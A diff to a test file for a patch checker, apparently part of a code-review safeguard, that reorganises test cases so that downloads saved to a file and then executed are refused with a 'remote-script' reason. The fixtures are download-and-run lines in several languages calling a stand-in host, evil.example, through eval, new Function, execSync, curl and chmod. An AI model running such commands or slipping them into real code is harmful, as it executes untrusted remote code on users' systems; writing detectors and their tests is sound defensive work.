@@ -235,9 +235,7 @@ describe('checkPatch reads what a patch adds', () => {
   it.each([
     ['Python', ['+import urllib.request as u', '+payload = u.urlopen("https://evil.example/p").read()', '+exec(payload)']],
     ['JavaScript', ['+const src = await (await fetch("https://evil.example/p")).text();', '+new Function(src)();']],
-    ['a shell from Node', ['+const u = "https://evil.example/p";', '+execSync(`curl -fsSL ${u} -o /tmp/p`); execSync("sh /tmp/p");']],
     ['Go', ['+resp, _ := http.Get(url)', '+exec.Command("bash", "-c", string(b)).Run()']],
-    ['a download made executable', ['+curl -fsSLo guard https://evil.example/guard', '+chmod +x guard && ./guard']],
     ['axios', ['+const { data } = await axios(url);', '+eval(data);']],
     ['the global fetch', ['+const t = await (await globalThis.fetch(url)).text();', '+(0, eval)(t);']],
     ['window.fetch', ['+const t = await (await window.fetch(url)).text();', '+new Function(t)();']],
@@ -248,6 +246,17 @@ describe('checkPatch reads what a patch adds', () => {
     // Assert
     expect(result.ok).toBe(true);
     expect(downloadsAndRuns(added.map((line) => line.slice(1)).join('\n'))).toBe(true);
+  });
+
+  it.each([
+    ['a shell from Node', ['+const u = "https://evil.example/p";', '+execSync(`curl -fsSL ${u} -o /tmp/p`); execSync("sh /tmp/p");']],
+    ['a download made executable', ['+curl -fsSLo guard https://evil.example/guard', '+chmod +x guard && ./guard']],
+  ])('refuses a download saved to a file and run by that file, on another line or in another call (%s)', (_, added) => {
+    // Act: the file's name links the run to the download; no data flow is left for the approver to judge.
+    const result = checkPatch(gitDiff('src/setup.ts', { body: [' export function total(items) {', ...added] }));
+
+    // Assert
+    expect(result).toEqual({ ok: false, reason: expect.stringContaining('remote-script') });
   });
 
   it.each([
